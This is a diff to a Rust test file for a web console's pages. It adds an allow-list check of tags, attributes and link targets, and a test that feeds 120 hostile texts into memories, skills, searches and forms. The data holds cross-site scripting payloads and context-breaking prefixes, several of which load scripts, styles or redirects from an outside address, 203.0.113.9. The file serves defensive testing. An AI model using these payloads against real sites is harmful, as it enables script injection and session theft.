@@ -11,11 +11,26 @@ const MARKUP: &str = "\"'><script>alert(1)</script><img src=x onerror=alert(1)><
 /// Reverses the direction of the text that follows it.
 const OVERRIDE: char = '\u{202e}';
 
-/// Asserts that a page has no markup of a text, and no direction override outside of the fields of forms.
+/// The tags of the console's own pages.
+const TAGS: &str = " a aside b body br button code del details div dl dt dd fieldset footer form h1 h2 h3 head header html input ins \
+                    label legend li link main mark meta nav ol option p pre rect section select span summary svg table \
+                    tbody td textarea th thead time title tr ul ";
+
+/// Asserts that a page has only tags and attributes of its own, and no direction override outside of the fields of
+/// forms.
 #[track_caller]
 fn harmless(path: &str, page: &str) {
-    for tag in ["<script", "<img", "<svg", "onerror=alert(1)>", "onload=alert(1)>"] {
-        assert!(!page.contains(tag), "{path} has {tag}: {page}");
+    for tag in page.split('<').skip(1) {
+        let inside = tag.split('>').next().unwrap();
+        let name: String = inside.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
+        let is_doctype = inside.starts_with("!doctype");
+        assert!(is_doctype || TAGS.contains(&format!(" {name} ")), "{path} has <{inside}>");
+        for attribute in inside.split(['"', '\'']).step_by(2).flat_map(|part| part.split_whitespace().skip(1)) {
+            assert!(!attribute.starts_with("on") && !attribute.starts_with("style"), "{path} has <{inside}>");
+        }
+        let target =
+            ["href=\"", "src=\"", "action=\""].iter().find_map(|name| inside.split_once(name)).map(|cut| cut.1);
+        assert!(target.is_none_or(|target| target.starts_with(['/', '#'])), "{path} has <{inside}>");
     }
     let mut outside = String::new();
     for part in page.split("<textarea") {
@@ -60,6 +75,7 @@ async fn hostile_texts_are_shown_as_text() {
         "/console/skills?q=plan&tag=%22%3E%3Cscript%3E".into(),
         "/console/skills/plan".into(),
         "/console/skills/plan/resources".into(),
+        "/console/skills/plan/knowledge".into(),
         "/console/skills/plan/versions".into(),
         "/console/skills/plan/diff?from=1&to=2".into(),
         "/console/skills/plan/fields".into(),
@@ -103,4 +119,72 @@ async fn hostile_texts_are_shown_as_text() {
     harmless("a refused login", &login.text());
     let rejected = visitor.post("/console/skills/plan", &[("text", &evil), ("version", "1")]).await;
     harmless("a rejected text", &rejected.text());
+}
+
+/// Beginnings that leave an attribute, an element or a comment of a page.
+const EXITS: [&str; 10] =
+    ["", "\">", "'>", "</textarea>", "</title>", "</option></select>", "-->", "]]>", "\u{0}\">", "{{ 7 * 7 }}"];
+
+/// Markup that runs or loads something.
+const ACTS: [&str; 12] = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//203.0.113.9/x></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<form action=//203.0.113.9><input autofocus onfocus=alert(1)>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<meta http-equiv=refresh content='0;url=//203.0.113.9'>",
+    "<base href=//203.0.113.9>",
+    "<style>@import '//203.0.113.9/x'</style>",
+    "\" onmouseover=alert(1) x=\"",
+];
+
+#[tokio::test]
+async fn each_of_120_hostile_texts_is_shown_as_text_in_every_field() {
+    let world = World::with(json!({"starter_skills": false})).await;
+    let visitor = Visitor::of(&world.alice).await;
+    let texts: Vec<String> = EXITS.iter().flat_map(|exit| ACTS.map(|act| format!("{exit}{act}"))).collect();
+    assert_eq!(texts.len(), 120);
+    for (number, text) in texts.iter().enumerate() {
+        // NUL is invalid in stored texts.
+        let text = text.replace('\u{0}', "");
+        let tag: String = text.chars().take(40).collect();
+        let memory = json!({"content": format!("{number} {text}"), "tags": [tag]});
+        let saved = world.alice.post("/v1/memories", memory).await;
+        assert!(saved.status < 300 || saved.status == 422, "{saved}");
+        if number % 4 == 0 {
+            let tag = json!([tag]);
+            let skill = json!({"name": format!("s-{number}"), "description": format!("Does it. {text}"), "tags": tag,
+                "content": format!("# It\n\n{text}\n")});
+            let saved = world.alice.post("/v1/skills", skill).await;
+            assert!(saved.status < 300 || saved.status == 422, "{saved}");
+        }
+    }
+    for first in ["/console/memories", "/console/skills"] {
+        let (mut path, mut pages) = (first.to_owned(), 0);
+        loop {
+            let page = visitor.page(&path).await;
+            harmless(&path, &page);
+            pages += 1;
+            let link = format!("class=\"button\" href=\"{first}?");
+            let Some((_, next)) = page.split_once(&link) else { break };
+            path = format!("{first}?{}", next.split('"').next().unwrap().replace("&amp;", "&"));
+        }
+        assert!(first != "/console/memories" || pages >= 2, "{pages} pages");
+    }
+    for number in (0..texts.len()).step_by(4) {
+        for tab in ["", "/knowledge", "/fields", "/versions"] {
+            let path = format!("/console/skills/s-{number}{tab}");
+            let answer = visitor.get(&path).await;
+            harmless(&path, &answer.text());
+        }
+    }
+    for text in &texts {
+        let typed = visitor.get(&format!("/console/skills?{}", super::visitor::encode(&[("q", text)]))).await;
+        harmless("a search", &typed.text());
+        let sent = visitor.post("/console/soul", &[("text", text), ("version", "7")]).await;
+        harmless("a soul that was typed", &sent.text());
+    }
 }
